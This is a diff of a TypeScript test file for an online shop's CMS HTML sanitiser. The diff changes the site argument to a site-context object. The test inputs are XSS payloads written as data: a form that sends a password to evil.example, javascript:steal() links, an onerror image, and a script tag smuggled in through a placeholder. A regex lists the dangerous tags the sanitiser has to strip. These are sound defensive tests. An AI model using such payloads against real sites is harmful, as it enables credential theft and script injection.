@@ -1,6 +1,10 @@
+import { defaultSites } from '@ironcart/core';
 import { describe, expect, it } from 'vitest';
 import { sanitizeBlocks } from './sanitize-blocks.ts';
 import { sanitizeContent } from './sanitize-content.ts';
+
+const onMainSite = { site: defaultSites.main, sites: defaultSites };
+const onBritishSite = { site: defaultSites.byCode('GBR'), sites: defaultSites };
 
 describe('content of the CMS (SECURITY 16)', () => {
   it.each([
@@ -13,29 +17,33 @@ describe('content of the CMS (SECURITY 16)', () => {
     '<form action="https://evil.example"><input name="password"></form>',
     '<math><mi xlink:href="javascript:steal()">x</mi></math>',
   ])('runs and sends nothing: %s', (html) => {
-    expect(sanitizeContent(html, '')).not.toMatch(/script|onerror|onload|iframe|style=|<form|<input|<svg|xlink/i);
+    expect(sanitizeContent(html, onMainSite)).not.toMatch(
+      /script|onerror|onload|iframe|style=|<form|<input|<svg|xlink/i,
+    );
   });
 
   it('keeps text, lists, tables and links, and puts the site before its own paths', () => {
-    expect(sanitizeContent('<p>See <a href="/barbells">bars</a> or <a href="https://x.example">x</a></p>', '/gb')).toBe(
-      '<p>See <a href="/gb/barbells">bars</a> or <a href="https://x.example">x</a></p>',
-    );
-    expect(sanitizeContent('<a href="//evil.example">x</a>', '/gb')).toBe('<a>x</a>');
+    expect(
+      sanitizeContent('<p>See <a href="/barbells">bars</a> or <a href="https://x.example">x</a></p>', onBritishSite),
+    ).toBe('<p>See <a href="/gb/barbells">bars</a> or <a href="https://x.example">x</a></p>');
+    expect(sanitizeContent('<a href="//evil.example">x</a>', onBritishSite)).toBe('<a>x</a>');
   });
 
   it('is cleaned after its placeholders and its links: neither brings anything in [SECURITY-16]', () => {
     const attributes = { finish: '<img src=x onerror=steal()>', target: 'javascript:steal()' };
-    expect(sanitizeContent('<p title="{{finish}}">{{finish}}</p>', '', { attributes })).toBe(
+    expect(sanitizeContent('<p title="{{finish}}">{{finish}}</p>', onMainSite, { attributes })).toBe(
       '<p>&lt;img src=x onerror=steal()&gt;</p>',
     );
-    expect(sanitizeContent('<a href="{{target}}">x</a>', '/gb', { attributes })).toBe('<a>x</a>');
-    expect(sanitizeContent('<{{tag}}>x</{{tag}}>', '', { attributes: { tag: 'script' } })).not.toContain('<script');
+    expect(sanitizeContent('<a href="{{target}}">x</a>', onBritishSite, { attributes })).toBe('<a>x</a>');
+    expect(sanitizeContent('<{{tag}}>x</{{tag}}>', onMainSite, { attributes: { tag: 'script' } })).not.toContain(
+      '<script',
+    );
   });
 
   it('keeps a link that cannot be read, and says so [S8-err-other-14]', () => {
     const warnings: string[] = [];
     const html = '<a href="https://[broken">x</a>';
-    expect(sanitizeContent(html, '/gb', { warn: (message) => warnings.push(message) })).toBe(html);
+    expect(sanitizeContent(html, onBritishSite, { warn: (message) => warnings.push(message) })).toBe(html);
     expect(warnings).toEqual(['The link https://[broken cannot be rewritten']);
   });
 
@@ -46,7 +54,7 @@ describe('content of the CMS (SECURITY 16)', () => {
       attributes: { weight: 44 },
       attributesOf: (id: number) => (id === 2 ? { weight: 25 } : undefined),
     };
-    const [rows, alone] = sanitizeBlocks(blocks, '', options);
+    const [rows, alone] = sanitizeBlocks(blocks, onMainSite, options);
     expect(rows?.slots?.default?.[0]?.props.html).toBe('<p>25 lb</p>');
     expect(alone?.props.html).toBe('<p>44 lb</p>');
   });
@@ -62,7 +70,7 @@ describe('content of the CMS (SECURITY 16)', () => {
           abTest: { name: 'pip', variants: { true: { props: { html: evil } } } },
         },
       ],
-      '',
+      onMainSite,
     );
     expect(block?.props).toEqual({
       title: evil,
